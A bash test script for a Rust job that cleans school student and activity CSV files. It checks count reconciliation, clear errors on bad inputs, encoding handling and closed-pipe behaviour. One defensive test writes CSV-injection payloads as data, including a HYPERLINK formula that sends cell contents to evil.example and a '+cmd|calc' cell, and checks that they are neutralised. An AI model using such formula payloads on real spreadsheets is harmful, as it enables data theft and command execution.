#!/usr/bin/env bash
# The main job on the bundled data, then on bad input files: each bad file must stop with a clear
# "error:" message and exit code 1 (a panic would exit 101), and a Windows-1252 file must import.
set -euo pipefail
cd "$(dirname "$0")/.."
cargo build --release --example clean_students -q
job=target/release/examples/clean_students
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT

"$job" --out-dir "$tmp/out" --on 2026-11-23 > "$tmp/summary.txt"
cat "$tmp/summary.txt"
for f in students_cleaned.csv students_problems.csv students.xlsx activities_cleaned.csv activities_errors.csv; do
  [ -s "$tmp/out/$f" ] || { echo "missing output $f"; exit 1; }
done
# Counts reconcile: every student row comes out with its status, rejected rows with their errors.
python3 - "$tmp" <<'PY'
import collections, csv, re, sys
tmp = sys.argv[1]
text = open(f"{tmp}/summary.txt").read()
m = re.search(r"students \(.*?\): (\d+) rows in = (\d+) ok \+ (\d+) fixed \+ (\d+) needs attention \+ (\d+) rejected", text)
rows_in, ok, fixed, attention, rejected = map(int, m.groups())
assert rows_in == ok + fixed + attention + rejected, m.groups()
raw = open(f"{tmp}/out/students_cleaned.csv", "rb").read()
assert raw.startswith(b"\xef\xbb\xbf"), "the cleaned CSV starts with a BOM (Excel reads it as UTF-8)"
cleaned = list(csv.DictReader(open(f"{tmp}/out/students_cleaned.csv", encoding="utf-8-sig")))
assert len(cleaned) == rows_in, (len(cleaned), rows_in)
status = collections.Counter(r["status"] for r in cleaned)
assert status == {"ok": ok, "fixed": fixed, "needs attention": attention, "rejected": rejected}, status
problems = list(csv.DictReader(open(f"{tmp}/out/students_problems.csv", encoding="utf-8-sig")))
error_rows = {p["row"] for p in problems if p["severity"] == "error"}
assert error_rows == {r["row"] for r in cleaned if r["status"] == "rejected"}
assert all(p["problem"] and "_" not in p["problem"].split(":")[0] for p in problems), "plain English"
m = re.search(r"activities \(.*?\): (\d+) rows in = (\d+) ok \+ (\d+) with errors", text)
rows_in, ok, bad = map(int, m.groups())
assert rows_in == ok + bad
assert len(list(csv.DictReader(open(f"{tmp}/out/activities_cleaned.csv", encoding="utf-8-sig")))) == ok
errors = list(csv.DictReader(open(f"{tmp}/out/activities_errors.csv", encoding="utf-8-sig")))
assert len({e["row"] for e in errors if e["severity"] == "error"}) == bad
print("counts reconcile")
PY

expect_error() {  # name, file, expected code
  set +e
  "$job" "$2" --no-activities --out-dir "$tmp/bad" > /dev/null 2> "$tmp/err.txt"
  rc=$?
  set -e
  if [ "$rc" -ne 1 ] || ! grep -q "^error: .*\[$3\]" "$tmp/err.txt"; then
    echo "FAIL $1: exit $rc, $(cat "$tmp/err.txt")"; exit 1
  fi
  echo "ok   $1: $(cat "$tmp/err.txt")"
}
: > "$tmp/empty.csv"
expect_error "empty file" "$tmp/empty.csv" empty_file
printf 'Frist Name,Surname,Birthday,Post Code\nAnn,Lee,2010-01-01,LS1 4AP\n' > "$tmp/headers.csv"
expect_error "wrong headers" "$tmp/headers.csv" missing_columns
head -c 300000 /dev/urandom > "$tmp/garbage.csv"
expect_error "binary garbage" "$tmp/garbage.csv" binary_file
truncate -s 1G "$tmp/huge.csv"
expect_error "1 GB file" "$tmp/huge.csv" file_too_large
expect_error "missing file" "$tmp/no-such-file.csv" unreadable_file
# A truncated file (cut mid-line) and a Windows-1252 file still import, row by row.
head -c 2000 examples/data/students.csv > "$tmp/truncated.csv"
"$job" "$tmp/truncated.csv" --no-activities --out-dir "$tmp/trunc" | head -1
printf 'first_name,last_name,dob,postcode\nZo\xeb,O\x92Brien,2010-01-01,LS1 4AP\n' > "$tmp/cp1252.csv"
"$job" "$tmp/cp1252.csv" --no-activities --out-dir "$tmp/cp" | head -1
grep -q "Zoë,O’Brien" "$tmp/cp/students_cleaned.csv"
# Formula-like cells (CSV injection) come out as text in every file the job writes.
printf 'first_name,last_name,dob,postcode\n"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",Lee,2010-01-01,LS1 4AP\n@SUM(1),+cmd|calc,2010-01-02,LS1 4AP\nAnn,-Lee,2010-01-03,LS1 4AP\n' > "$tmp/formulas.csv"
"$job" "$tmp/formulas.csv" --no-activities --out-dir "$tmp/formulas" > "$tmp/formulas.txt"
python3 - "$tmp/formulas" "$tmp/formulas.txt" <<'PY'
import csv, pathlib, re, sys
out, summary = pathlib.Path(sys.argv[1]), open(sys.argv[2]).read()
cells = [c for f in out.glob("*.csv") for row in csv.reader(open(f, encoding="utf-8-sig")) for c in row]
def number(c):
    try:
        float(c)
        return True
    except ValueError:
        return False
bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
assert not bad, bad
assert "'@SUM(1)" in cells and "'+cmd|calc" in cells and "'-Lee" in cells, cells
n = int(re.search(r"formula-like cells written as text \(a leading ' in CSV, text cells in .xlsx\): (\d+)", summary).group(1))
assert n >= 3, n
print(f"ok   formula cells: {n} written as text")
PY
# A reader that stops early (`| head -1`) closes the pipe: the job must end quietly with code 0,
# never a panic (exit 101), every time.
for i in 1 2 3 4 5 6 7 8 9 10; do
  set +e
  "$job" --out-dir "$tmp/pipe" --on 2026-11-23 2> "$tmp/pipe_err.txt" | head -c 1 > /dev/null
  rc=${PIPESTATUS[0]}
  set -e
  if [ "$rc" -ne 0 ] || [ -s "$tmp/pipe_err.txt" ]; then
    echo "FAIL closed pipe (run $i): exit $rc, $(cat "$tmp/pipe_err.txt")"; exit 1
  fi
done
echo "ok   closed pipe: 10 runs into head -c 1, each quiet with exit 0"
echo "main job: all checks passed"
